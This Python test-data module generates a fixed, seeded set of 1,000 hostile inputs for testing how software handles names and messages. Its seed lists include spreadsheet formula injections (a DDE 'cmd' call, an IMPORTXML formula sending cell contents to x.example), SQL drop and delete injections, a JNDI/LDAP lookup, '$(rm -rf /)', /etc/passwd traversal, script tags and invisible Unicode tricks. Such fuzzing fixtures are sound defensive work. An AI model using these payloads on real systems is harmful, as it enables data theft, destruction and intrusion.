"""A thousand texts that somebody may have typed as a name, a tag or a message to do harm; the same every time.

Belongs here: making them. Does not belong here: what must become of them.
"""

from __future__ import annotations

import random

FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://x.example\",\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")", "＝1+1", "＋1", "－1", "＠SUM(1)", "%0A=1+1", "|calc",
    "﹢1", "﹣1", "﹫x", "₊1", "⁺1", "⁼1",
)  # fmt: skip
QUOTES = ('"', '""', '"",""', "'", 'O\'Neil "Bo"', '","=1+1,"', "“curly”", "`x`", "\\", '\\"', '";=1+1;"')
LINES = ("a\nb", "a\r\nb", "a\rb", "\n=1+1", "\t=1+1", "a\u2028b", "a\u2029b", "a\x0bb", "a\x0cb", "a\x85b")
SQL = (
    "'; drop table voters; --", "' or '1'='1", "x'); delete from exports; --", "%' or 1=1 --", "${jndi:ldap://x}",
    "{{ 7 * 7 }}", "{% raw %}", "$(rm -rf /)", "../../etc/passwd", "NULL", "null", "<script>alert(1)</script>",
    "read_csv('/etc/passwd')",
)  # fmt: skip
UNSEEN = (
    "\u200b=1+1", "\u200e+1", "\u202e1+1=", "\ufeff=1+1", "\u2060@x", "\u00ad-1", "\u2066=x\u2069", "\u0000=1",
    "\u200d\u200c", "\u061c=1", "\u180e=1", "\u115f=1", "\u3164=1", "\U000e0001=1", "a\u200bb", "a\u202eb",
    "\ue000=1", "\u034f=1", "\u2800=1",
)  # fmt: skip
HONEST = (
    "José",
    "Łukasz",
    "Nguyễn",
    "李小龍",
    "עברית",
    "محمد",
    "Ann-Marie",
    "O’Brien",
    "🙂 Sam",
    "e\u0301lan",
    "D'Arcy",
)
KINDS = (FORMULAS, QUOTES, LINES, SQL, UNSEEN, HONEST)


def hostile_texts(count: int = 1000, seed: int = 20260901) -> list[str]:
    """``count`` texts: each seed text alone, then joined at random, also behind spaces. Never empty, no surrogates."""
    draw = random.Random(seed)
    alone = [text for kind in KINDS for text in kind]
    found = list(alone)
    while len(found) < count:
        parts = [draw.choice(draw.choice(KINDS)) for _ in range(draw.randint(2, 4))]
        found.append(draw.choice(("", " ", "\u00a0", "\t", "\u3000")) + draw.choice(("", " ", ",")).join(parts))
    return found[:count]
